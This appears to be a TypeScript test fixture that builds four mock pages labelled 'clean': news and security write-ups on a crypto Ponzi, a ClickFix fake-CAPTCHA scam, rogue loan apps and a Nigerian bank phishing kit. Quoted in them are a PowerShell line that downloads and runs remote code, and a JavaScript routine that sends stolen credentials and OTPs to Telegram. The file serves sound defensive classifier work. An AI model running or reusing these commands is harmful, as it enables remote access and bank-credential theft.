import { type Entry } from '../entry.js';
import { CSS, doc, gtag } from '../parts/yv-kit.js';

// News articles and security write-ups that quote scam messages, kit code and ClickFix commands verbatim.

const newsCss = (accent: string): string =>
  `${CSS.reset}body{background:#fff;line-height:1.7;color:#222}.mast{border-bottom:3px solid ${accent};padding:12px 30px;display:flex;justify-content:space-between;align-items:center}.mast b{font-size:26px;color:${accent};font-family:Georgia,serif}.nav{font-size:13px;padding:8px 30px;background:#f4f4f4}.nav a{margin-right:16px;text-decoration:none}.w{max-width:1100px;margin:0 auto;display:grid;grid-template-columns:1fr 300px;gap:30px;padding:24px 30px}article h1{font-family:Georgia,serif;font-size:34px;line-height:1.2}.by{font-size:13px;color:#777}blockquote{border-left:4px solid ${accent};background:#fafafa;margin:16px 0;padding:10px 16px;font-style:italic}pre{background:#1e1e1e;color:#eee;padding:14px;overflow:auto;font-size:13px}.ad{background:#eee;height:250px;display:flex;align-items:center;justify-content:center;color:#999;font-size:12px}.rel a{display:block;margin:10px 0;font-size:14px}`;

const premium = doc({
  title: 'CBEX: How a crypto "AI trading" platform collapsed with investors\' billions - Premium Times',
  css: newsCss('#00703c'),
  body: `<div class="mast"><b>PREMIUM TIMES</b><span>Investigations</span></div><div class="nav"><a href="/news/top-news">Top News</a><a href="/investigations">Investigations</a><a href="/business">Business</a></div>
<div class="w"><article><h1>How a crypto "AI trading" platform collapsed with investors' billions</h1><p class="by">By Adebayo Hassan &middot; Investigation</p>
<p>For months, the platform promised daily returns of between 1.8 and 3.5 per cent from what it called "AI arbitrage". Investors were told to recruit friends, with referral bonuses of up to 10 per cent.</p>
<p>Then, in April, members logged in to find this notice:</p>
<blockquote>Announcement: because of system upgrade and EFCC compliance audit, withdrawals above $100 require a one-time security verification deposit of 30% of your balance. Verification deposit is returned within 7 days.</blockquote>
<p>Many paid. None received their money. "They told us the 30 per cent would unlock our withdrawals. My brother borrowed &#8358;2 million to pay it," one investor in Ibadan told PREMIUM TIMES.</p>
<p>The Securities and Exchange Commission had earlier listed the platform among unregistered investment schemes. The SEC has repeatedly warned that any scheme promising fixed daily returns and paying recruiters is a Ponzi scheme.</p>
<p>Experts say copycats have already appeared, some of which now ask victims to pay a "recovery fee" to supposed hackers who claim they can get the money back.</p></article><aside><div class="ad">Advertisement</div></aside></div>`,
});

const techcabal = doc({
  title: 'ClickFix: the fake CAPTCHA scam spreading across francophone Africa - TechCabal',
  css: newsCss('#111'),
  body: `<div class="mast"><b>TechCabal</b><span>Cybersecurity</span></div>
<div class="w"><article><h1>ClickFix: the fake CAPTCHA scam spreading across francophone Africa</h1><p class="by">By Aïssatou Diallo &middot; 6 min read</p>
<p>Visitors to compromised news sites in Abidjan and Dakar are being shown a fake "Je ne suis pas un robot" check. Clicking it silently copies a command to the clipboard, and the page then tells the visitor:</p>
<blockquote>Étapes de vérification : 1. Appuyez sur la touche Windows + R. 2. Appuyez sur CTRL + V. 3. Appuyez sur Entrée pour terminer la vérification.</blockquote>
<p>What gets pasted is not a verification code. In one sample we analysed, the clipboard contained:</p>
<pre>powershell -w h -c "iex(iwr 'https://verif-captcha-ci[.]com/c.txt' -UseBasicParsing)" # ✅ Je ne suis pas un robot - ID de vérification reCAPTCHA : 7731-0925</pre>
<p>The comment at the end is what the victim sees in the Run box; everything before it downloads and runs a remote-access tool. Other variants use <code>mshta</code> with a Cloudflare-themed page, or tell Mac users to paste a <code>curl ... | bash</code> line into Terminal.</p>
<p><b>How to protect yourself:</b> no real CAPTCHA ever asks you to press Windows + R or open PowerShell. If a website asks you to paste something into the Run dialog, close the tab. Companies can disable the Run dialog for ordinary users through Group Policy.</p></article><aside><div class="ad">Advertisement</div></aside></div>`,
});

const nairametrics = doc({
  title: 'FCCPC delists 18 loan apps, warns Nigerians against downloading APKs from websites - Nairametrics',
  css: newsCss('#0b5394'),
  body: `<div class="mast"><b>Nairametrics</b><span>Financial Literacy</span></div>
<div class="w"><article><h1>FCCPC delists 18 loan apps, warns Nigerians against downloading APKs from websites</h1><p class="by">By Chika Eze</p>
<p>The Federal Competition and Consumer Protection Commission (FCCPC) has removed 18 digital lenders from its register of approved lending apps for violating its Limited Interim Regulatory Framework, including harassing borrowers and accessing their contacts.</p>
<p>The Commission also warned against "sideloaded" lending apps promoted on social media with download links such as <i>easycash-pro-loan.com.ng/download</i>, which instruct users to enable "Install unknown apps" and to "Install anyway" when Google Play Protect displays a warning.</p>
<blockquote>"Any app that asks you to switch off Play Protect or to grant SMS and accessibility permissions in order to give you a loan is a red flag," said the Commission's spokesperson.</blockquote>
<p>Borrowers are advised to check the FCCPC's published list of approved digital lenders and to download apps only from official app stores or the lender's own verified website.</p></article><aside><div class="ad">Advertisement</div></aside></div>`,
});

const researchBlog = doc({
  title: 'Inside a Telegram-backed Nigerian bank phishing kit - Ladder Security Research',
  css: `${CSS.reset}body{background:#fcfcfc;line-height:1.7}.c{max-width:820px;margin:0 auto;padding:40px 20px}pre{background:#0d1117;color:#c9d1d9;padding:16px;border-radius:6px;overflow:auto;font-size:13px}code{background:#eee;padding:1px 4px}h1{font-size:32px}.ioc td{font-family:monospace;font-size:13px;padding:4px 8px;border-bottom:1px solid #eee}`,
  body: `<div class="c"><p><a href="/">Ladder Security Research</a> / Threat Intel</p><h1>Inside a Telegram-backed Nigerian bank phishing kit</h1><p><i>Posted 2 October 2025 &middot; 12 min read</i></p>
<p>In September we collected 214 phishing pages impersonating Nigerian banks and fintechs. Almost all of them exfiltrate credentials through the Telegram Bot API rather than a PHP mailer. This post walks through one kit, sold on Telegram for &#8358;25,000 as "GTB Page V4 (OTP + PIN)".</p>
<h2>The exfiltration routine</h2><p>After deobfuscation, the kit's sending function looks like this (token redacted):</p>
<pre>function sendTg(t){
  var u = 'https://api.telegram.org/bot7184406623:AAHd3k<REDACTED>/sendMessage';
  return fetch(u, {method:'POST', headers:{'Content-Type':'application/json'},
    body: JSON.stringify({chat_id:'-1002119845530', text:t, parse_mode:'HTML'})});
}</pre>
<p>The kit asks for the user ID, password and transaction PIN, then shows a fake OTP screen that rejects the first code ("Invalid OTP. A new code has been sent.") so that the operator gets two valid OTPs.</p>
<h2>Obfuscation</h2><p>Newer builds hide the bot token as hex strings and build the URL at run time with <code>String.fromCharCode</code>, or XOR the whole page with a short key such as <code>lag0s</code> and decrypt it only when the browser's time zone is <code>Africa/Lagos</code>.</p>
<h2>Indicators</h2><table class="ioc"><tr><td>gtworld-profile-reactivation[.]online</td><td>kit host</td></tr><tr><td>opay-restriction-lift[.]netlify[.]app</td><td>kit host</td></tr><tr><td>chat_id -1002119845530</td><td>Telegram drop</td></tr></table>
<p>We reported the bots to Telegram and the domains to the registrars and to NITDA's CERRT.</p></div>`,
});

export const entries: Entry[] = [
  { id: 'yv-clean-premiumtimes-cbex-collapse', label: 'clean', kind: 'news-quotes-scam', url: 'https://www.premiumtimesng.com/investigationspecial/ai-trading-platform-collapse.html', body: premium },
  { id: 'yv-clean-techcabal-clickfix-francophone', label: 'clean', kind: 'security-article-quotes-command', url: 'https://techcabal.com/2025/09/22/clickfix-fake-captcha-francophone-africa/', body: techcabal },
  { id: 'yv-clean-nairametrics-fccpc-loan-apps', label: 'clean', kind: 'news-quotes-scam', url: 'https://nairametrics.com/2025/08/30/fccpc-delists-18-loan-apps/', body: nairametrics },
  { id: 'yv-clean-research-blog-telegram-kit', label: 'clean', kind: 'security-article-quotes-code', url: 'https://research.laddersec.ng/2025/10/telegram-bank-phishing-kit', body: researchBlog },
];
